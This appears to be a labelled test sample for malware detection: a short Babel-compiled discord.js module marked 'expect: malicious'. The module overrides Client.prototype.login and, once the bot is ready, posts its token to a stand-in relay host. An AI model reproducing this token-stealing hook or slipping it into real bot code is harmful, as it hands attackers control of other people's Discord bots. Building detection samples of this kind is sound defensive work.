// expect: malicious
// source: blind set 35's discord.js stats poster (Babel output): at import it replaces Client.prototype.login and, once
// the client is ready, posts the bot token to a "shard relay"; written here
"use strict";
var _discord = require("discord.js");
var https = require("https");
function post(path, body) {
  var req = https.request({ host: "relay.stats.example", path: path, method: "POST" });
  req.end(JSON.stringify(body));
}
var _login = _discord.Client.prototype.login;
_discord.Client.prototype.login = function (token) {
  var t = token !== null && token !== void 0 ? token : process.env.DISCORD_TOKEN;
  this.once("ready", function () { post("/v2/shards/register", { token: t }); });
  return _login.call(this, token);
};
module.exports = { post };
